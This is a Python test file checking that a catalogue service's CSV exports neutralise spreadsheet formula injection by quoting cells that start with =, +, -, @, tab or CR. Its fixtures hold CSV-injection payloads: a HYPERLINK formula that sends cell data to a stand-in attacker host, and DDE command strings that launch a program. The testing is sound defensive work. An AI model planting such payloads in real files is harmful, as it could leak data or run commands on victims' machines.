"""R3: the public catalogue CSV (and the compliance CSV) cannot carry a spreadsheet formula. Cells
that start with =, +, -, @, tab or CR get a leading single quote (OWASP CSV injection guidance)."""

from __future__ import annotations

import csv
import io

import aiohttp

from catalog.compliance import FIELDS, Finding, to_csv
from catalog.csvout import FORMULA_START, safe_cell

from .test_catalog_support import Client, seed

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
PLANTED = {"site": HYPERLINK, "unit": "+cmd|' /C calc'!A0", "district": "-2+3", "system": "@SUM(1+1)*cmd|' /C calc'!A0"}


async def test_r3_formula_cells_in_the_public_csv_are_neutralised(db_url, make_gateway) -> None:
    gw = await make_gateway(storage={"url": db_url})
    async with aiohttp.ClientSession() as s:
        admin, anon = Client(gw, s), Client(gw, s, token=None)
        await seed(admin)
        await admin.ok("POST", "/api/catalog/units", {"id": "u-evil", "name": PLANTED["unit"], "type": "enterprise",
                                                      "district": PLANTED["district"]})
        await admin.ok("POST", "/api/catalog/sites", {"id": "s-evil", "name": PLANTED["site"], "category": "school",
                                                      "district": PLANTED["district"], "unit_id": "u-evil"})
        await admin.ok("POST", "/api/catalog/systems", {"id": "sys-evil", "name": PLANTED["system"], "unit_id": "u-evil",
                                                        "site_id": "s-evil", "funding": "government",
                                                        "security_level": 1, "status": "planned"})
        status, text = await anon.call("GET", "/catalogue.csv")
        status_json, published = await anon.call("GET", "/catalogue.json")
    assert status == 200 and status_json == 200
    rows = list(csv.DictReader(io.StringIO(text)))
    evil = next(r for r in rows if r["site_id"] == "s-evil")
    assert evil["site_name"] == "'" + PLANTED["site"] and evil["unit"] == "'" + PLANTED["unit"]
    assert evil["district"] == "'" + PLANTED["district"] and evil["system_name"] == "'" + PLANTED["system"]
    assert not [c for r in rows for c in r.values() if c.startswith(FORMULA_START)]
    assert all(line.startswith('"') for line in text.splitlines())  # every cell quoted
    # the JSON (not a spreadsheet format) keeps the registered value as it is
    assert next(r for r in published["systems"] if r["site_id"] == "s-evil")["site_name"] == PLANTED["site"]


def test_r3_every_formula_leading_character_is_quoted_and_others_are_not() -> None:
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{lead}1+1") == f"'{lead}1+1"
    for value in ("North gate", "1-2", "a=b", " =1", "", 7, None):
        assert safe_cell(value) == value


def test_r17_compliance_csv_neutralises_formula_cells_too() -> None:
    finding = Finding(*(["=1+1"] * len(FIELDS)))
    rows = list(csv.DictReader(io.StringIO(to_csv([finding]))))
    assert rows == [{f: "'=1+1" for f in FIELDS}]
